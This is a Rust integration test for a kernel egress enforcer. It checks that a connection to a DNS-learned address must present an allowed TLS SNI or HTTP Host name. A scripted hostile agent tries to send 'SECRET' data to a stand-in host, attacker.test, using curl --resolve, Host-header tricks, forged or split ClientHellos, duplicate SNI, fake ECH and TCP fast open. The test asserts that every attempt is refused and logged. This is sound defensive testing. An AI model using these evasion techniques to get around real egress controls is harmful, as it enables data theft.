//! Host rules bound to names in the kernel: a connection to an address
//! that only a DNS answer allowed must first present an allowed name (TLS
//! SNI or HTTP Host), judged by the cgroup_skb egress program before any
//! byte leaves.
//!
//! One `enforcer run` with a hostile agent (`agents/tls_agent.py`). A TLS
//! and HTTP "front" (`agents/tls_front.py`) on one loopback address serves a
//! certificate for two names, `allowed.test` (in the policy) and
//! `attacker.test` (not), and logs the first bytes of every connection.
//! The agent resolves `allowed.test` through the enforcer's DNS proxy, then
//! reaches the learned address naming the attacker with curl, Python's ssl
//! and hand-split ClientHellos. Every refused attempt must leave the front
//! with zero bytes; allowed fetches work before and after.
use std::{
    net::SocketAddr,
    path::Path,
    process::{Command, Stdio},
    time::Duration,
};

use enforcer_tests::{dns_server::DnsServer, *};

const FRONT_IP: &str = "127.0.0.61";
const CIDR_IP: &str = "127.0.0.62";
const RAW_IP: &str = "127.0.0.63";

/// A ClientHello taken apart into its handshake body head and extensions,
/// so that the test can move, add and duplicate extensions.
struct Hello {
    head: Vec<u8>,
    exts: Vec<(u16, Vec<u8>)>,
}

impl Hello {
    fn parse(records: &[u8]) -> Self {
        let mut hs = Vec::new();
        let mut off = 0;
        while off + 5 <= records.len() {
            let l = u16::from_be_bytes([records[off + 3], records[off + 4]]) as usize;
            hs.extend_from_slice(&records[off + 5..off + 5 + l]);
            off += 5 + l;
        }
        let mut p = 4 + 2 + 32;
        p += 1 + hs[p] as usize;
        p += 2 + u16::from_be_bytes([hs[p], hs[p + 1]]) as usize;
        p += 1 + hs[p] as usize;
        let head = hs[4..p].to_vec();
        let end = p + 2 + u16::from_be_bytes([hs[p], hs[p + 1]]) as usize;
        p += 2;
        let mut exts = Vec::new();
        while p < end {
            let t = u16::from_be_bytes([hs[p], hs[p + 1]]);
            let l = u16::from_be_bytes([hs[p + 2], hs[p + 3]]) as usize;
            exts.push((t, hs[p + 4..p + 4 + l].to_vec()));
            p += 4 + l;
        }
        Self { head, exts }
    }

    fn message(&self) -> Vec<u8> {
        let mut body = self.head.clone();
        let len: usize = self.exts.iter().map(|(_, d)| 4 + d.len()).sum();
        body.extend_from_slice(&(len as u16).to_be_bytes());
        for (t, d) in &self.exts {
            body.extend_from_slice(&t.to_be_bytes());
            body.extend_from_slice(&(d.len() as u16).to_be_bytes());
            body.extend_from_slice(d);
        }
        let mut m = vec![1u8];
        m.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
        m.extend_from_slice(&body);
        m
    }

    fn set_sni(&mut self, names: &[&str]) {
        let mut list = Vec::new();
        for n in names {
            list.push(0u8);
            list.extend_from_slice(&(n.len() as u16).to_be_bytes());
            list.extend_from_slice(n.as_bytes());
        }
        let mut data = (list.len() as u16).to_be_bytes().to_vec();
        data.extend_from_slice(&list);
        self.exts.retain(|(t, _)| *t != 0);
        self.exts.push((0, data));
    }
}

/// `msg` in handshake records, cut at `cuts` (offsets into the message).
fn records(msg: &[u8], cuts: &[usize]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut from = 0;
    for &to in cuts.iter().chain([msg.len()].iter()) {
        let chunk = &msg[from..to];
        out.extend_from_slice(&[0x16, 3, 1]);
        out.extend_from_slice(&(chunk.len() as u16).to_be_bytes());
        out.extend_from_slice(chunk);
        from = to;
    }
    out
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

/// Stream bytes cut into chunks at `cuts`, as hex for the agent.
fn chunks(bytes: &[u8], cuts: &[usize]) -> Vec<String> {
    let mut out = Vec::new();
    let mut from = 0;
    for &to in cuts.iter().chain([bytes.len()].iter()) {
        out.push(hex(&bytes[from..to]));
        from = to;
    }
    out
}

struct Front {
    child: ChildGuard,
    log: std::path::PathBuf,
}

impl Front {
    fn start(dir: &TestDir, port: u16, cert: &Path, key: &Path) -> Self {
        let log = dir.join("front.jsonl");
        let mut child = Command::new(python())
            .arg(agents_dir().join("tls_front.py"))
            .args([FRONT_IP, &port.to_string()])
            .arg(cert)
            .arg(key)
            .arg(&log)
            .stdout(Stdio::piped())
            .spawn()
            .expect("starting the front");
        let mut line = String::new();
        std::io::BufRead::read_line(
            &mut std::io::BufReader::new(child.stdout.take().unwrap()),
            &mut line,
        )
        .unwrap();
        assert!(line.contains("ready"), "front: {line}");
        Self {
            child: ChildGuard::new(child),
            log,
        }
    }

    /// (connections with bytes, connections without) logged so far.
    fn counts(&self) -> (usize, usize, String) {
        let text = std::fs::read_to_string(&self.log).unwrap_or_default();
        let recs: Vec<Value> = text
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect();
        let with = recs
            .iter()
            .filter(|r| r["bytes"].as_u64() != Some(0))
            .count();
        (with, recs.len() - with, text)
    }
}

#[test]
fn first_bytes_name_the_host() {
    if !require_root("first_bytes_name_the_host") {
        return;
    }
    let dir = TestDir::new("first-bytes");
    let (cert, key) = (dir.join("cert.pem"), dir.join("key.pem"));
    let ok = Command::new("openssl")
        .args([
            "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
        ])
        .args(["-subj", "/CN=allowed.test"])
        .args([
            "-addext",
            "subjectAltName=DNS:allowed.test,DNS:attacker.test",
        ])
        .arg("-keyout")
        .arg(&key)
        .arg("-out")
        .arg(&cert)
        .stderr(Stdio::null())
        .status()
        .unwrap();
    assert!(ok.success(), "openssl req");
    std::fs::set_permissions(&key, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    let port = free_port();
    let front = Front::start(&dir, port, &cert, &key);
    let cidr_sink = TcpSink::bind(format!("{CIDR_IP}:0").parse().unwrap()).unwrap();
    let raw_sink = TcpSink::bind(format!("{RAW_IP}:0").parse().unwrap()).unwrap();
    let dns = DnsServer::start();
    dns.add_addrs("allowed.test", &[FRONT_IP]);
    dns.add_addrs("attacker.test", &[FRONT_IP]);
    dns.add_addrs("ssh.test", &[RAW_IP]);
    dns.add_addrs("quic.test", &[FRONT_IP]);
    let audit = dir.join("audit.jsonl");
    let metrics: SocketAddr = format!("127.0.0.1:{}", free_port()).parse().unwrap();
    let policy = dir.join("p.yaml");
    std::fs::write(
        &policy,
        dns_policy_yaml(
            "first-bytes",
            &[
                // Vouches for loopback answers (the rebinding defence), port 9 only.
                "{cidr: 127.0.0.0/8, ports: [9]}".into(),
                format!("{{host: allowed.test, ports: [{port}], protocol: tcp}}"),
                format!("{{host: quic.test, ports: [{port}], protocol: udp}}"),
                format!(
                    "{{host: ssh.test, ports: [{}], protocol: tcp, inspect: none}}",
                    raw_sink.port()
                ),
                format!(
                    "{{cidr: {CIDR_IP}/32, ports: [{}], protocol: tcp}}",
                    cidr_sink.port()
                ),
            ],
            &dns.upstream(),
            &[],
        ),
    )
    .unwrap();
    let check = enforcer()
        .arg("policy")
        .arg("check")
        .arg(&policy)
        .output()
        .unwrap();
    let shown = String::from_utf8_lossy(&check.stdout).to_string()
        + &String::from_utf8_lossy(&check.stderr);
    assert!(check.status.success(), "{shown}");
    assert!(
        shown.contains("inspect none"),
        "policy check shows the opt-out: {shown}"
    );
    let mut a = RunAgent::spawn(
        &policy,
        &[
            "--audit-log".into(),
            audit.display().to_string(),
            "--metrics-addr".into(),
            metrics.to_string(),
        ],
        &dir.join("tls_agent.py"),
    );
    let cafile = dir.join("cert.pem").display().to_string();
    let url = |name: &str, scheme: &str| format!("{scheme}://{name}:{port}/?d=SECRET");
    let curl = |a: &mut RunAgent, args: Vec<String>| -> Value {
        a.cmd_timeout(
            json!({"op": "curl", "args": args, "timeout": 20}),
            Duration::from_secs(30),
        )
    };
    // The agent learns the address the way its tools do (glibc's resolver
    // through whatever resolv.conf names: the proxy answers).
    let v = a.cmd(json!({"op": "resolve", "server": "127.0.0.9", "port": 53,
                         "name": "allowed.test", "qtype": "A", "timeout": 5}));
    assert_eq!(v["addrs"], json!([FRONT_IP]), "{v}");
    for n in ["ssh.test", "quic.test"] {
        let v = a.cmd(json!({"op": "resolve", "server": "127.0.0.9", "port": 53,
                             "name": n, "qtype": "A", "timeout": 5}));
        assert_eq!(v["addrs"].as_array().map(|x| x.len()), Some(1), "{n}: {v}");
    }

    // ---- allowed, before any refusal
    let mut allowed_conns = 0;
    let v = curl(
        &mut a,
        vec![
            "--cacert".into(),
            cafile.clone(),
            url("allowed.test", "https"),
        ],
    );
    assert_eq!(v["out"], "hello allowed.test", "curl https: {v}");
    allowed_conns += 1;
    let v = curl(&mut a, vec![url("allowed.test", "http")]);
    assert_eq!(
        v["out"],
        "hello allowed.test:".to_string() + &port.to_string(),
        "curl http: {v}\n{}",
        std::fs::read_to_string(&audit).unwrap_or_default()
    );
    allowed_conns += 1;
    let v = a.cmd(json!({"op": "tls", "host": FRONT_IP, "port": port, "sni": "allowed.test",
                         "cafile": cafile, "request": "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"}));
    assert!(
        v["reply"]
            .as_str()
            .unwrap_or("")
            .ends_with("hello allowed.test"),
        "python ssl: {v}"
    );
    allowed_conns += 1;
    // Real ClientHellos from Python's ssl, written in pieces with TCP_NODELAY,
    // in two records, SNI last, and 2 KB large: the front answers (a ServerHello).
    let small = a.cmd(json!({"op": "hello", "sni": "allowed.test"}));
    let small = unhex(small["hex"].as_str().unwrap());
    let big = a.cmd(json!({"op": "hello", "sni": "allowed.test", "alpn": 180}));
    let big = unhex(big["hex"].as_str().unwrap());
    assert!(big.len() > 2000, "{}", big.len());
    let mut last = Hello::parse(&small);
    last.set_sni(&["allowed.test"]);
    let msg = Hello::parse(&small).message();
    let allowed_variants: Vec<(&str, Vec<String>)> = vec![
        ("split in three sends", chunks(&small, &[3, 40, 200])),
        ("one byte, then the rest", chunks(&small, &[1])),
        ("two records", chunks(&records(&msg, &[100]), &[])),
        (
            "two records, two sends",
            chunks(&records(&msg, &[7]), &[9, 60]),
        ),
        ("sni last", chunks(&records(&last.message(), &[]), &[])),
        ("2 KB (large key share / ALPN)", chunks(&big, &[1000])),
    ];
    for (what, c) in &allowed_variants {
        let v = a.cmd_timeout(
            json!({"op": "raw", "host": FRONT_IP, "port": port, "chunks": c, "nodelay": true,
                   "pause": 0.05, "wait": 2}),
            Duration::from_secs(15),
        );
        assert!(
            v["reply"].as_str().is_some_and(|r| r.starts_with("16")),
            "{what}: {v}"
        );
        allowed_conns += 1;
    }

    // ---- attacks: every one refused with zero bytes at the front
    let before = front.counts();
    let no_ca = |u: String| vec!["-m".to_string(), "2".into(), "-k".into(), u];
    let resolve_to = |name: &str| format!("{name}:{port}:{FRONT_IP}");
    for (what, args) in [
        (
            "curl --resolve attacker",
            [
                vec!["--resolve".to_string(), resolve_to("attacker.test")],
                no_ca(url("attacker.test", "https")),
            ]
            .concat(),
        ),
        (
            "curl suffix trick",
            [
                vec![
                    "--resolve".to_string(),
                    resolve_to("allowed.test.attacker.test"),
                ],
                no_ca(url("allowed.test.attacker.test", "https")),
            ]
            .concat(),
        ),
        (
            "curl plain http with the attacker's Host",
            [
                vec!["-H".to_string(), "Host: attacker.test".into()],
                no_ca(url("allowed.test", "http")),
            ]
            .concat(),
        ),
        (
            "curl plain http absolute-form",
            [
                vec![
                    "--request-target".to_string(),
                    format!("http://attacker.test:{port}/?d=SECRET"),
                ],
                no_ca(url("allowed.test", "http")),
            ]
            .concat(),
        ),
    ] {
        let v = curl(&mut a, args);
        assert_ne!(v["rc"], 0, "{what}: {v}");
        assert!(
            !v["out"].as_str().unwrap_or("").contains("hello"),
            "{what}: {v}"
        );
    }
    for (what, sni) in [
        ("python ssl other sni", json!("attacker.test")),
        ("no sni", Value::Null),
    ] {
        let v = a.cmd_timeout(
            json!({"op": "tls", "host": FRONT_IP, "port": port, "sni": sni, "verify": false,
                   "timeout": 2, "request": "GET /?d=SECRET HTTP/1.1\r\nHost: attacker.test\r\n\r\n"}),
            Duration::from_secs(15),
        );
        assert!(!v["ok"].as_bool().unwrap_or(true), "{what}: {v}");
    }
    let attacker = a.cmd(json!({"op": "hello", "sni": "attacker.test"}));
    let attacker = unhex(attacker["hex"].as_str().unwrap());
    let amsg = Hello::parse(&attacker).message();
    let mut two_names = Hello::parse(&small);
    two_names.set_sni(&["allowed.test", "attacker.test"]);
    let mut ech = Hello::parse(&small);
    ech.exts.push((0xfe0d, vec![0x42; 200]));
    let mut dup = Hello::parse(&small);
    dup.set_sni(&["allowed.test"]);
    let mut dup2 = Hello::parse(&small);
    dup2.set_sni(&["attacker.test"]);
    dup.exts.push(dup2.exts.last().unwrap().clone());
    let mut cuts_every = Vec::new();
    for off in [1usize, 5, 6, 9, 43, 44, 76, 120, 200, 300] {
        if off < attacker.len() {
            cuts_every.push(("attacker hello cut", chunks(&attacker, &[off])));
        }
    }
    let mut raw_attacks: Vec<(&str, Vec<String>, bool)> = vec![
        ("attacker hello whole", chunks(&attacker, &[]), false),
        (
            "attacker hello in two records",
            chunks(&records(&amsg, &[50]), &[]),
            false,
        ),
        (
            "two names in server_name",
            chunks(&records(&two_names.message(), &[]), &[]),
            false,
        ),
        (
            "two server_name extensions",
            chunks(&records(&dup.message(), &[]), &[]),
            false,
        ),
        (
            "ech behind the allowed name",
            chunks(&records(&ech.message(), &[]), &[]),
            false,
        ),
        ("raw bytes", vec![hex(b"SECRET=hunter2\n")], false),
        (
            "plain http, attacker host, split",
            chunks(
                format!("GET /?d=SECRET HTTP/1.1\r\nHost: attacker.test:{port}\r\n\r\n").as_bytes(),
                &[4, 30],
            ),
            false,
        ),
        (
            "tcp fast open with the attacker hello",
            chunks(&attacker, &[]),
            true,
        ),
        ("tcp fast open with raw bytes", vec![hex(b"SECRET")], true),
    ];
    for (w, c) in cuts_every {
        raw_attacks.push((w, c, false));
    }
    for (what, c, tfo) in &raw_attacks {
        let v = a.cmd_timeout(
            json!({"op": "raw", "host": FRONT_IP, "port": port, "chunks": c, "nodelay": true,
                   "pause": 0.05, "wait": 1, "fastopen": tfo, "timeout": 3}),
            Duration::from_secs(15),
        );
        assert_eq!(v["reply"].as_str().unwrap_or(""), "", "{what}: {v}");
    }
    // UDP (QUIC) to a name's address: refused at sendto.
    let v = a.cmd(json!({"op": "udp", "host": FRONT_IP, "port": port, "data": "SECRET"}));
    assert_eq!(v["errno"], libc::EPERM, "udp: {v}");

    // Metrics: refusals by reason (the poller publishes the kernel's counters).
    assert!(
        poll_until(Duration::from_secs(10), Duration::from_millis(200), || {
            http_get(metrics, "/metrics").is_ok_and(|(_, body)| {
                let n = |reason: &str| {
                    metric(
                        &body,
                        "enforcer_decisions_total",
                        &[
                            ("action", "inspect"),
                            ("verdict", "deny"),
                            ("reason", reason),
                        ],
                    )
                    .unwrap_or(0.0)
                };
                n("name-mismatch") >= 3.0 && n("no-sni") >= 1.0 && n("ech") >= 1.0
            })
        }),
        "enforcer_decisions_total{{action=inspect,verdict=deny,reason=...}}:\n{}",
        http_get(metrics, "/metrics")
            .map(|r| r.1)
            .unwrap_or_default()
    );

    // ---- allowed again after the refusals
    let v = curl(
        &mut a,
        vec![
            "--cacert".into(),
            cafile.clone(),
            url("allowed.test", "https"),
        ],
    );
    assert_eq!(
        v["out"], "hello allowed.test",
        "curl https after refusals: {v}"
    );
    allowed_conns += 1;

    // A cidr rule's raw TCP and an `inspect: none` host rule are untouched.
    a.cmd(json!({"op": "raw", "host": CIDR_IP, "port": cidr_sink.port(), "chunks": [hex(b"cidr raw")], "wait": 0.2}));
    a.cmd(json!({"op": "raw", "host": RAW_IP, "port": raw_sink.port(), "chunks": [hex(b"SSH-2.0-test\r\n")], "wait": 0.2}));
    assert!(
        poll_until(Duration::from_secs(5), Duration::from_millis(50), || {
            cidr_sink.bytes() == 8 && raw_sink.bytes() == 14
        }),
        "cidr {} raw {}",
        cidr_sink.bytes(),
        raw_sink.bytes()
    );

    // Zero bytes of any attack reached the front: every connection it
    // logged with bytes is an allowed one (refused ones are logged after
    // its 5 s read timeout, with 0 bytes).
    std::thread::sleep(Duration::from_secs(6));
    let (with, without, text) = front.counts();
    assert_eq!(
        with, allowed_conns,
        "connections that delivered bytes:\n{text}"
    );
    assert!(
        without > before.1,
        "the attacks connected (and sent nothing):\n{text}"
    );
    assert!(!text.contains(&hex(b"attacker")), "{text}");
    a.finish(Duration::from_secs(20));
    drop(front.child);

    // Records: each refusal with its reason and the presented name.
    let recs = read_jsonl(&audit);
    let inspect: Vec<&Value> = recs.iter().filter(|r| r["action"] == "inspect").collect();
    let has = |reason: &str, presented: Option<&str>| {
        inspect.iter().any(|r| {
            r["verdict"] == "deny"
                && r["reason"] == reason
                && presented.is_none_or(|p| r["presented"] == p)
        })
    };
    let all = inspect
        .iter()
        .map(|r| r.to_string())
        .collect::<Vec<_>>()
        .join("\n");
    assert!(has("name-mismatch", Some("attacker.test")), "{all}");
    assert!(
        has("name-mismatch", Some("allowed.test.attacker.test")),
        "{all}"
    );
    assert!(has("no-sni", None), "{all}");
    assert!(has("ech", Some("allowed.test")), "{all}");
    assert!(has("bad-name", None), "{all}");
    assert!(has("not-tls-or-http", None), "{all}");
    assert!(has("host-conflict", None), "{all}");
    assert!(has("udp-not-inspectable", None), "{all}");
    assert!(
        inspect
            .iter()
            .any(|r| r["first_bytes"] == "http" && r["presented"] == "attacker.test"),
        "{all}"
    );
    let start = recs
        .iter()
        .find(|r| r["action"] == "start")
        .map(|r| r.to_string())
        .unwrap_or_default();
    assert!(
        start.contains("inspect none"),
        "the audit start record names the opt-out: {start}"
    );
}

fn unhex(s: &str) -> Vec<u8> {
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
        .collect()
}
